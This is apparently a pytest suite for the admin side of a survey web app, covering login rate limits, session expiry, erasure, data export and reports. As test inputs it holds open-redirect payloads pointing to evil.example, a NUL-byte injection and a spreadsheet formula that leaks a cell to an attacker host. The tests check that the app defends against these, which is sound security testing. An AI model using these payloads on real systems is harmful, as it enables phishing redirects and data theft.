"""The admin side: login and its rate limit, dashboard and its report download, tokens, preview, erasure, export."""

from __future__ import annotations

import io
import re
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import docx
import pandas as pd
import pytest
from respondents import CSRF_PATTERN
from servers import survey_server
from sqlalchemy import func, select, update

import analysis
from analysis import simulate
from reports import apa
from survey_app import responses, storage
from survey_app.admin import users
from survey_app.storage import now, responses_frame

PASSWORD = "correct horse battery"
PAGES = ["/admin/", "/admin/tokens", "/admin/tokens.csv", "/admin/preview/", "/admin/respondents", "/admin/export"]


@pytest.fixture
def admin(app, client, csrf):
    """The test client, logged in as an admin."""
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    response = client.post(
        "/admin/login", data={"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
    )
    assert response.status_code == 302
    return client


def seed(app, n: int, seed: int = 1) -> None:
    survey = app.extensions["socialimp"]
    with survey.sessions.begin() as session:
        responses.store_simulated(session, survey.instrument, simulate(n, seed=seed), seed=seed)


@pytest.mark.parametrize("page", PAGES)
def test_every_admin_page_needs_a_login(client, page):
    response = client.get(page)
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login?next=")


def test_the_report_download_needs_a_login(client, csrf):
    response = client.post("/admin/report", data={"csrf_token": csrf(client, "/admin/login"), "data": "simulated"})
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login")


def test_a_wrong_password_is_refused_and_guessing_is_rate_limited(app, client, csrf):
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    token = csrf(client, "/admin/login")
    for _ in range(app.config["LOGIN_ATTEMPTS"]):
        response = client.post("/admin/login", data={"csrf_token": token, "username": "ada", "password": "guess"})
        assert response.status_code == 401 and "User name or password is wrong." in response.get_data(as_text=True)
    response = client.post("/admin/login", data={"csrf_token": token, "username": "ada", "password": PASSWORD})
    assert response.status_code == 429
    assert "Too many failed logins for this name from your address. Please wait 15 minutes" in response.get_data(True)
    assert client.get("/admin/").status_code == 302


def log_in(client, csrf, query: str = ""):
    """Post a correct login to ``/admin/login<query>`` and return the response."""
    data = {"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
    return client.post(f"/admin/login{query}", data=data)


@pytest.mark.parametrize(
    ("query", "location"),
    [
        ("?next=/admin/tokens", "/admin/tokens"),
        ("?next=%2Fadmin%2F%3Fdata%3Dall", "/admin/?data=all"),
        ("?next=%2Fadmin%2Ftokens%0A", "/admin/tokens"),  # a browser drops the line break too
        ("?next=//evil.example/", "/admin/"),
        ("?next=%2F%09%2Fevil.example%2F", "/admin/"),  # browsers drop the tab: //evil.example/
        ("?next=%2F%0D%0A%2Fevil.example%2F", "/admin/"),
        ("?next=%0A", "/admin/"),
        ("?next=%2F%5Cevil.example%2F", "/admin/"),  # a backslash is a slash to browsers
        ("?next=%20%2F%2Fevil.example", "/admin/"),
        ("?next=https:%2F%2Fevil.example%2F", "/admin/"),
        ("?next=javascript:alert(1)", "/admin/"),
        ("?next=", "/admin/"),
    ],
)
def test_login_goes_back_to_the_page_asked_for_but_never_off_site(app, client, csrf, query, location):
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    response = log_in(client, csrf, query)
    assert response.status_code == 302 and response.headers["Location"] == location


def test_a_nul_in_next_is_a_bad_request_not_a_redirect(app, client, csrf):
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    assert log_in(client, csrf, "?next=%2F%00%2Fevil.example").status_code == 400


def test_admin_accounts_need_a_real_password_and_a_new_name(app):
    with app.extensions["socialimp"].sessions.begin() as session:
        with pytest.raises(ValueError, match="password for 'bob' must have at least 10 characters"):
            users.create(session, "bob", "short")
        users.create(session, "bob", PASSWORD)
        with pytest.raises(ValueError, match="admin user 'bob' already exists"):
            users.create(session, "bob", PASSWORD)
        stored = session.scalar(users.select(users.AdminUser).where(users.AdminUser.username == "bob"))
        assert PASSWORD not in stored.password_hash and stored.password_hash.startswith("scrypt:")


def test_logout_ends_the_admin_session(admin, csrf):
    admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
    assert admin.get("/admin/").status_code == 302


def test_a_cookie_copied_before_logout_no_longer_opens_the_admin_side(app, admin, csrf):
    copied = admin.get_cookie("session").value
    admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
    thief = app.test_client()
    thief.set_cookie("session", copied)
    response = thief.get("/admin/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login")


def test_a_logout_counts_on_every_worker(app, admin, csrf, tmp_path):
    """Two apps on one database stand for two workers (or hosts): the session ends on both."""
    from survey_app import create_app

    other = create_app({**app.config, "INSTANCE_PATH": str(tmp_path / "other")}).test_client()
    other.set_cookie("session", admin.get_cookie("session").value)
    assert other.get("/admin/").status_code == 200
    admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
    assert other.get("/admin/").status_code == 302


def test_an_idle_admin_session_expires(app, admin):
    from survey_app.models import AdminSession

    assert admin.get("/admin/").status_code == 200
    idle = timedelta(hours=app.config["ADMIN_IDLE_HOURS"], seconds=1)
    with app.extensions["socialimp"].sessions.begin() as session:
        session.execute(update(AdminSession).values(seen_at=now() - idle))
    response = admin.get("/admin/tokens")
    assert response.status_code == 302 and response.headers["Location"] == "/admin/login?next=/admin/tokens?"
    with app.extensions["socialimp"].sessions() as session:
        assert session.scalar(select(func.count()).select_from(AdminSession)) == 0  # ended for good


def test_the_idle_limit_is_set_in_hours():
    from survey_app import Config

    assert Config.from_env({})["ADMIN_IDLE_HOURS"] == 8
    assert Config.from_env({"SOCIALIMP_ADMIN_IDLE_HOURS": "0.5"})["ADMIN_IDLE_HOURS"] == 0.5
    for bad in ("soon", "0", "-1"):
        with pytest.raises(
            ValueError, match=f"SOCIALIMP_ADMIN_IDLE_HOURS must be a number of hours above 0, not '{bad}'"
        ):
            Config.from_env({"SOCIALIMP_ADMIN_IDLE_HOURS": bad})


def test_guessing_from_elsewhere_does_not_lock_the_owner_out(app, client, csrf):
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    attacker = app.test_client()
    attacker.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    token = csrf(attacker, "/admin/login")
    statuses = [attacker.post("/admin/login", data={"csrf_token": token, "username": "ada", "password": "guess"})
                .status_code for _ in range(7)]  # fmt: skip
    assert statuses == [401] * 5 + [429] * 2
    assert log_in(client, csrf).status_code == 302  # the owner, from another address
    neighbour = app.test_client()
    neighbour.environ_base["REMOTE_ADDR"] = "203.0.113.10"  # another address of the same network is elsewhere too
    assert log_in(neighbour, csrf).status_code == 302


def test_one_ipv6_network_is_one_source(app, csrf):
    with app.extensions["socialimp"].sessions.begin() as session:
        users.create(session, "ada", PASSWORD)
    for k in range(6):
        guesser = app.test_client()
        guesser.environ_base["REMOTE_ADDR"] = f"2001:db8::{k + 1:x}"  # a /64 holds more addresses than can be tried
        data = {"csrf_token": csrf(guesser, "/admin/login"), "username": "ada", "password": "guess"}
        assert guesser.post("/admin/login", data=data).status_code == (401 if k < 5 else 429)


@pytest.mark.slow
@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
def test_concurrent_guesses_on_several_workers_get_exactly_the_limit(request, backend, tmp_path):
    """24 wrong passwords for one name at once, over HTTP against two gunicorn workers: 5 are checked, 19 refused."""
    database = f"sqlite:///{tmp_path / 'served.db'}" if backend == "sqlite" else request.getfixturevalue("postgres")
    with survey_server(database, tmp_path, workers=2) as server:
        engine = storage.connect(database)
        with storage.sessions(engine).begin() as session:
            users.create(session, "ada", PASSWORD)
        engine.dispose()
        cookie, token = login_page(server.url)
        body = urllib.parse.urlencode({"csrf_token": token, "username": "ada", "password": "guess"}).encode()

        def guess(_):
            attempt = urllib.request.Request(f"{server.url}/admin/login", data=body, headers={"Cookie": cookie})
            try:
                with urllib.request.urlopen(attempt) as response:
                    return response.status
            except urllib.error.HTTPError as refused:
                return refused.code

        with ThreadPoolExecutor(24) as pool:
            statuses = list(pool.map(guess, range(24)))
    assert sorted(statuses) == [401] * 5 + [429] * 19


def login_page(url: str) -> tuple[str, str]:
    """The session cookie and CSRF token a browser gets with the login page of the server at `url`."""
    with urllib.request.urlopen(f"{url}/admin/login") as page:
        cookie = page.headers["Set-Cookie"].split(";")[0]
        return cookie, re.search(CSRF_PATTERN, page.read().decode()).group(1)


def test_dashboard_counts_drop_off_and_times_real_respondents(app, admin, ins):
    from conftest import Taker

    taker = Taker(app.test_client(), ins)  # a respondent in another browser, who leaves on the channels page
    taker.page()
    taker.page(url="/page/screening")
    taker.client.get("/page/channels")
    Taker(app.test_client(), ins).complete()
    html = admin.get("/admin/").get_data(as_text=True)
    assert re.search(r'<span class="value">2</span> started', html)
    assert re.search(r'<span class="value">1</span> completed', html)
    assert re.search(r"<td>How you communicate with this partner</td><td class=\"num\">2</td>"
                     r"<td class=\"num\">1</td>", html)  # fmt: skip
    assert 'aria-label="Minutes to complete: 0-5 1' in html
    assert "Cronbach's alpha appears once 30 responses are complete (1 so far)" in html
    assert "suspected bots" in html  # a complete survey in under a second is flagged, not dropped


@pytest.mark.slow
def test_simulated_respondents_are_marked_and_never_mixed_silently(app, admin, taker):
    seed(app, 40)
    html = admin.get("/admin/").get_data(as_text=True)
    assert "Showing <strong>simulated respondents</strong>" in html  # nothing real yet
    taker.complete()
    html = admin.get("/admin/").get_data(as_text=True)
    assert "Real respondents only; the database also holds 40 simulated respondents." in html
    assert re.search(r'<span class="value">1</span> started', html)
    html = admin.get("/admin/?data=all").get_data(as_text=True)
    assert "40 of 41 are <strong>simulated</strong>" in html
    response = admin.get("/admin/?data=bogus")
    assert response.status_code == 400 and "data must be one of real, simulated, all, not &#39;bogus&#39;" in (
        response.get_data(as_text=True)
    )


@pytest.mark.slow
def test_dashboard_shows_alpha_and_item_charts_once_30_are_complete(app, admin, ins):
    seed(app, 40)
    html = admin.get("/admin/?data=simulated").get_data(as_text=True)
    assert '<td>Long-term relationship</td><td>ltr_5</td><td class="num">40</td>' in html
    alpha = re.search(
        r"<td>Information exchange</td><td>inf_1</td>.*?<td class=\"num\">(0\.\d{3})</td></tr>", html, re.S
    )
    frame = responses_frame(app.config["DATABASE_URL"])
    from analysis import reliability

    expected = reliability(frame[ins.construct_items["inf"]], {"inf": ins.construct_items["inf"]})["alpha"].iloc[0]
    assert float(alpha[1]) == pytest.approx(expected, abs=5e-4)
    assert html.count('<svg class="chart"') == 1 + sum(i.type == "likert" for i in ins.items.values())
    assert 'aria-label="inf_1: 1 ' in html


def test_tokens_are_generated_and_downloaded_as_csv(admin, csrf):
    response = admin.post("/admin/tokens", data={"csrf_token": csrf(admin, "/admin/tokens"), "count": "5"})
    assert response.status_code == 302
    html = admin.get("/admin/tokens").get_data(as_text=True)
    assert "5 links, 0 used" in html
    response = admin.post("/admin/tokens", data={"csrf_token": csrf(admin, "/admin/tokens"), "count": "0"})
    assert response.status_code == 422 and "Please enter a number from 1 to 10000." in response.get_data(True)
    csv = admin.get("/admin/tokens.csv")
    assert csv.mimetype == "text/csv" and "attachment; filename=tokens_" in csv.headers["Content-Disposition"]
    assert csv.headers["Cache-Control"] == "no-store"  # invitation links admit whoever holds them
    table = pd.read_csv(io.StringIO(csv.get_data(as_text=True)))
    assert len(table) == 5 and table.link.str.startswith("http://localhost/t/").all()


def test_preview_shows_every_page_and_stores_nothing(app, admin, ins):
    for section in ins.sections:
        html = admin.get(f"/admin/preview/{section.id}").get_data(as_text=True)
        assert f"<h1>{section.title}</h1>" in html and "Preview: answers are not saved." in html
        assert '<button type="submit" name="nav"' not in html
    assert 'name="sig_email"' in admin.get("/admin/preview/signalling").get_data(as_text=True)  # routed items too
    assert admin.get("/admin/preview/nope").status_code == 404
    assert responses_frame(app.config["DATABASE_URL"]).empty


def test_admin_erases_a_respondent_found_by_receipt_code(app, admin, ins, csrf):
    from conftest import Taker

    person = Taker(app.test_client(), ins)
    person.complete()
    receipt = re.search(r'id="receipt-code">([A-Z0-9-]+)<', person.client.get("/done").get_data(True))[1]
    token = csrf(admin, "/admin/respondents")
    html = admin.post("/admin/respondents", data={"csrf_token": token, "code": "AAAA-AAAA-AAAA"}).get_data(True)
    assert "No respondent has this receipt code." in html
    html = admin.post("/admin/respondents", data={"csrf_token": token, "code": receipt}).get_data(as_text=True)
    exported = responses_frame(app.config["DATABASE_URL"]).respondent_id[0]  # the id the admin knows from the data
    assert "<h2>Found</h2>" in html and exported in html
    assert admin.post(f"/admin/respondents/{exported}/delete").status_code == 400  # no CSRF token
    response = admin.post(f"/admin/respondents/{exported}/delete", data={"csrf_token": token})
    assert response.status_code == 302 and responses_frame(app.config["DATABASE_URL"]).empty
    response = admin.post(f"/admin/respondents/{exported}/delete", data={"csrf_token": token})
    assert response.status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "sav"])
def test_export_page_downloads_data_and_codebook(app, admin, fmt, csrf):
    """Downloads of answers are never kept in a browser's or proxy's cache (Cache-Control: no-store)."""
    seed(app, 5)
    token = csrf(admin, "/admin/export")
    response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "real"})
    assert response.status_code == 302  # there is no real respondent yet
    assert "There are no real respondents to export yet." in admin.get("/admin/export").get_data(as_text=True)
    response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "simulated"})
    assert response.mimetype == "application/zip"
    assert response.headers["Cache-Control"] == "no-store"
    names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
    assert len(names) == 2 and names[0].endswith(f".{fmt}") and names[1].endswith("_codebook.csv")


def test_the_csv_download_neutralises_formulas(app, admin, taker, csrf):
    taker.complete({"bld_open": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'})
    response = admin.post("/admin/export", data={"csrf_token": csrf(admin, "/admin/export"), "format": "csv",
                                                 "data": "real"})  # fmt: skip
    bundle = zipfile.ZipFile(io.BytesIO(response.data))
    data = pd.read_csv(io.BytesIO(bundle.read(bundle.namelist()[0])))
    assert data["bld_open"][0] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def notices(client, url: str = "/admin/") -> list[str]:
    """The flashed messages a page shows."""
    return re.findall(r'<p class="notice" role="status">(.*?)</p>', client.get(url).get_data(as_text=True))


def test_dashboard_report_button_explains_why_there_is_no_report(app, admin, csrf):
    seed(app, 5)
    html = admin.get("/admin/").get_data(as_text=True)
    assert 'action="/admin/report"' in html and "Download report</button>" in html
    token = csrf(admin, "/admin/")
    response = admin.post("/admin/report", data={"csrf_token": token, "data": "real"})
    assert response.status_code == 302 and response.headers["Location"] == "/admin/?data=real"
    assert "No report yet: there are no complete real responses." in notices(admin, "/admin/?data=real")
    response = admin.post("/admin/report", data={"csrf_token": token, "data": "simulated"})
    assert response.status_code == 302
    assert notices(admin, response.headers["Location"])[0] == (
        "No report of the simulated respondents: only 5 complete rows; the model&#39;s 50 variables need more"
    )
    response = admin.post("/admin/report", data={"csrf_token": token, "data": "bogus"})
    assert response.status_code == 302 and "No report: Not a valid choice." in notices(admin)
    assert admin.post("/admin/report", data={"data": "simulated"}).status_code == 400  # no CSRF token


@pytest.mark.slow
def test_download_report_is_the_fit_of_the_chosen_respondents(app, admin, taker, csrf):
    seed(app, 150)
    taker.complete()  # one real respondent, done in under a second: a suspected bot, flagged yet analysed
    response = admin.post("/admin/report", data={"csrf_token": csrf(admin, "/admin/"), "data": "all"})
    assert response.mimetype == "application/zip" and response.headers["Cache-Control"] == "no-store"
    assert "filename=socialimp_report_all_" in response.headers["Content-Disposition"]
    bundle = zipfile.ZipFile(io.BytesIO(response.data))
    names = set(bundle.namelist())
    assert {"report.html", "report.pdf", "report.docx", "table1.tex", "path_diagram.svg", "path_diagram.png"} <= names
    direct = analysis.fit(analysis.load(app.config["DATABASE_URL"], include_simulated=True))
    fi, used = direct.fit_indices, direct.raw.loc[direct.data.index]
    # the cells as written, without the wrapped text columns' markup that keeps numbers on one line
    page = re.sub(r"<span class='num'>|</span>| class='text'", "", bundle.read("report.html").decode("utf-8"))
    assert f"<td>{apa.number(fi.chisq)} (df = {fi.df:.0f})</td>" in page
    assert f"<td>CFI</td><td>{apa.bounded(fi.cfi, 3)}</td>" in page and f"<td>{apa.bounded(fi.srmr, 3)}</td>" in page
    assert f"<td>Observations analysed</td><td>{direct.n}</td>" in page and direct.n == 151
    assert f"Warning: simulated data, not real responses: 150 of the {direct.n} analysed respondents" in page
    bots = int(used["qc_bot_suspect"].sum())
    assert bots >= 1 and f"<td>{bots} ({100 * bots / direct.n:.1f}%)</td>" in page
    word = docx.Document(io.BytesIO(bundle.read("report.docx")))
    fit_table = next(t for t in word.tables if t.rows[1].cells[0].text == "χ²")
    assert fit_table.rows[1].cells[1].text == f"{apa.number(fi.chisq)} (df = {fi.df:.0f})"
